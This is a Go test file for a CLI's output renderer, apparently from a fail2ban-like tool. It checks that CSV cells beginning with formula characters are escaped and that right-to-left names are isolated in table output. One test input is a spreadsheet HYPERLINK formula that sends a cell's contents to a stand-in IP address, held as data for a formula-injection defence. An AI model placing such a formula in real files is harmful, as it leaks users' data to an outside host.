package commands

import (
	"encoding/csv"
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"f2bc/store"
)

func rendered(t *testing.T, layout string, columns []string, rows ...row) string {
	t.Helper()
	var text strings.Builder
	if err := render(&text, layout, columns, slices.Values(rows)); err != nil {
		t.Fatal(err)
	}
	return text.String()
}

// A spreadsheet runs no name as a formula; numbers, times and addresses are as they were.
func TestRenderSpreadsheet(t *testing.T) {
	for _, c := range []struct {
		cell any
		want string
	}{
		{`=HYPERLINK("http://192.0.2.1/?"&A1,"x")`, `'=HYPERLINK("http://192.0.2.1/?"&A1,"x")`},
		{"+1", "'+1"}, {"-1+2", "'-1+2"}, {"@SUM(A1)", "'@SUM(A1)"},
		{anyName("=1"), "'=1"}, {[]string{"=1", "=2"}, "'=1,=2"},
		{"\t=1", `\t=1`}, {"\r=1", `\r=1`}, // escaped anyway
		{"web-1", "web-1"}, {"a=b", "a=b"}, {"", ""}, {anyName(""), ""}, {"'x", "'x"},
		{-5, "-5"}, {store.Time(-1), "1969-12-31T23:59:59.999999Z"}, {netip.MustParsePrefix("203.0.113.6/32"), "203.0.113.6"}, {true, "true"},
	} {
		records, err := csv.NewReader(strings.NewReader(rendered(t, "csv", []string{"a", "b"}, row{c.cell, 1}))).ReadAll()
		if err != nil || len(records) != 2 || records[1][0] != c.want {
			t.Errorf("%#v: %q, %v, want %q", c.cell, records, err, c.want)
		}
	}
}

// A name that is written from right to left does not change the order of the cells of its row.
func TestRenderRightToLeft(t *testing.T) {
	for _, name := range []string{"שרת1", "خادم", "web-שרת", "\U0001e900"} {
		table := rendered(t, "table", []string{"prefix", "source", "reason"}, row{"203.0.113.6", name, "sshd"})
		if want := fmt.Sprintf("203.0.113.6  \u2068%s\u2069  ", name); !strings.Contains(table, want) {
			t.Errorf("%q: %q", name, table)
		}
		for _, layout := range []string{"csv", "json"} { // programs get it as it is
			if text := rendered(t, layout, []string{"a"}, row{name}); strings.ContainsAny(text, "\u2068\u2069") {
				t.Errorf("%s: %q", layout, text)
			}
		}
	}
	if table := rendered(t, "table", []string{"a"}, row{"größer\u2067"}); strings.ContainsAny(table, "\u2067\u2068\u2069") {
		t.Errorf("%q", table)
	}
}
